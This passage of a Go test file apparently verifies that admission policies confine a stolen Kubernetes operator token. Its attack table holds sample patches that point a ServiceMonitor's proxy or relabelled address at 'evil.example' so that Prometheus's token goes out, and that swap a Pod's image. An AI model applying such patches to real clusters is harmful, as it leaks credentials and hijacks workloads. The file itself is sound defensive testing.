		"by a proxy":         `proxyUrl, value: "http://evil.example"`,
		"at another address": `relabelings, value: [{targetLabel: __address__, replacement: "evil.example:443"}]`,
	} {
		patch("a ServiceMonitor that sends the token of Prometheus "+what, serviceMonitor, `- {op: add, path: /spec/endpoints/0/`+field+`}`, "no metrics")
	}
	patch("a ServiceMonitor for another port", serviceMonitor, `- {op: replace, path: /spec/endpoints/0/port, value: http}`, "no metrics")
	patch("the image of a Pod", `{apiVersion: v1, kind: Pod, metadata: {namespace: NAMESPACE, name: listener-operator}}`, `- {op: replace, path: /spec/containers/0/image, value: evil}`, "nothing of a Pod but its labels")
	for what, a := range all {
		a.manifest = replace.Replace(a.manifest)
		all[what] = a
	}
	return all
}

// TestStolenOperatorTokenIsConfined uses a token of the operator, with the permissions that the operator is installed
// with. Without the policies, each of the requests is accepted; with them, each is denied, and the operator installs,
// repairs and removes its components.
func TestStolenOperatorTokenIsConfined(t *testing.T) {
	const enforced = "with OwnerReferencesPermissionEnforcement"
	for server, config := range map[string]func(testing.TB) *rest.Config{
		enforced: apiserver.Config, "without OwnerReferencesPermissionEnforcement": apiserver.PlainConfig,
	} {
		t.Run(server, func(t *testing.T) {
			t.Parallel() // each has an API server of its own
			w := operator.NewWorld(t, config(t))
			crds.Install(t, w.Client, optional...)
			defer crds.Remove(t, w.Client, optional...)
			thief := w.Operator()
			installNodeAgent(w)()
			createVictims(w)
			w.Grant(rbacv1.PolicyRule{APIGroups: []string{"apps"}, Resources: []string{"daemonsets/status"}, Verbs: []string{"patch"}})

			// No policy matches the status of Pods.
			pod := operator.Object(t, `{apiVersion: v1, kind: Pod, metadata: {namespace: `+w.Namespace+`, name: listener-operator}}`)
			failed := client.RawPatch(types.MergePatchType, []byte(`{"status":{"phase":"Failed"}}`))
			w.Expect(apierrors.IsForbidden(thief.Status().Patch(t.Context(), pod, failed))).To(BeTrue())

			all := attacks(w.Namespace)
			w.Eventually(func() error { return all["node agents that are ready"].send(t, thief) }).Should(Succeed()) // is granted
			for what, a := range all {
				err := a.send(t, thief)
				if hidden := a.hidden && server == enforced; hidden && !apierrors.IsForbidden(err) || !hidden && err != nil {
					t.Errorf("%s %s is no attack: without policies, the error is %v", a.verb, what, err)
				}
			}
			w.Confine(thief)
			for what, a := range all {
				t.Run(a.verb+" "+what, func(t *testing.T) {
					if a.hidden && server == enforced {
						a.want = "forbidden"
					}
					NewWithT(t).Eventually(func() error { return a.send(t, thief) }, apiserver.Timeout, "50ms").Should(MatchError(ContainSubstring(a.want)))
					if a.verb == "patch" { // of fields that others may change
						NewWithT(t).Expect(a.send(t, w.Client)).To(Succeed(), "by an administrator")
					}
				})
			}

			// The operator is not restricted in what it does.
			own := operator.Object(t, `{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: `+w.Namespace+`, name: own,
  ownerReferences: [{apiVersion: v1, kind: PersistentVolumeClaim, name: own, uid: own}]}, spec: {ports: []}}`)
			w.Expect(w.Create(t.Context(), own)).To(Succeed())
			w.Expect(thief.Delete(t.Context(), own)).To(Succeed())
			for _, component := range installation.Components() {
				if o := component.Empty(); component.Kind != "DaemonSet" {
					o.SetNamespace(component.Key(w.Namespace).Namespace)
					o.SetName(component.Name)
					w.Expect(w.Delete(t.Context(), o)).To(Succeed())
				}
			}
			installNodeAgent(w)
		})
	}
}

// bundleOf returns the certificates of an authority, in PEM.
func bundleOf(namespace string) string {
	authority, err := certificate.NewRoot(time.Now()).Authority(namespace, "uid")
	if err != nil {
		panic(err)
	}
	return string(authority.PEM())
}

// createVictims creates objects that the operator did not create, and a Service of a Listener.
func createVictims(w *operator.World) {
	w.Helper()
	for _, manifest := range []string{
		`{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: shop}, spec: {ports: [{port: 80}]}}`,
		`{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: web, ownerReferences: [
			{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, name: web, uid: web, controller: true}]}, spec: {ports: [{port: 80}]}}`,
		`{apiVersion: v1, kind: PersistentVolume, metadata: {name: NAMESPACE}, spec: {capacity: {storage: 1}, accessModes: [ReadWriteOnce], hostPath: {path: /data}}}`,
		`{apiVersion: listeners.stackable.tech/v1alpha1, kind: Listener, metadata: {namespace: NAMESPACE, name: web}, spec: {ports: []}}`,
		`{apiVersion: v1, kind: ConfigMap, metadata: {namespace: NAMESPACE, name: listener-ca.crt}}`,
		`{apiVersion: events.k8s.io/v1, kind: Event, metadata: {namespace: NAMESPACE, name: web}, regarding: {kind: Pod, namespace: NAMESPACE, name: web},
			eventTime: "2026-01-01T00:00:00.000000Z", reportingController: kubelet, reportingInstance: x, action: x, reason: x, type: Normal}`,
		`{apiVersion: certificates.k8s.io/v1, kind: ClusterTrustBundle, metadata: {name: NAMESPACE}, spec: {trustBundle: "` + strings.ReplaceAll(bundleOf("y"), "\n", "\\n") + `"}}`,
		`{apiVersion: cert-manager.io/v1, kind: Certificate, metadata: {namespace: NAMESPACE, name: shop-listener-tls}, spec: {secretName: x, issuerRef: {name: x}}}`,
		`{apiVersion: externaldns.k8s.io/v1alpha1, kind: DNSEndpoint, metadata: {namespace: NAMESPACE, name: shop}, spec: {endpoints: []}}`,
		`{apiVersion: route.openshift.io/v1, kind: Route, metadata: {namespace: NAMESPACE, name: shop}, spec: {host: shop.example, to: {kind: Service, name: shop}}}`,
		`{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {namespace: NAMESPACE, name: shop}, spec: {defaultBackend: {service: {name: shop, port: {number: 80}}}}}`,
		`{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: shop-allowed-clients}, spec: {podSelector: {matchLabels: {app: shop}}}}`,
		`{apiVersion: gateway.networking.k8s.io/v1alpha2, kind: TLSRoute, metadata: {namespace: NAMESPACE, name: shop}, spec: {hostnames: [shop.example], rules: [{backendRefs: [{name: shop, port: 80}]}]}}`,
		`{apiVersion: gateway.networking.k8s.io/v1, kind: ListenerSet, metadata: {namespace: NAMESPACE, name: shop}, spec: {parentRef: {name: edge}, listeners: [{name: x, port: 80, protocol: HTTP}]}}`,
	} {
		w.Expect(w.Create(w.Context(), operator.Object(w, strings.ReplaceAll(strings.ReplaceAll(manifest, "NAMESPACE", w.Namespace), "\t", "")))).To(Succeed())
	}
}
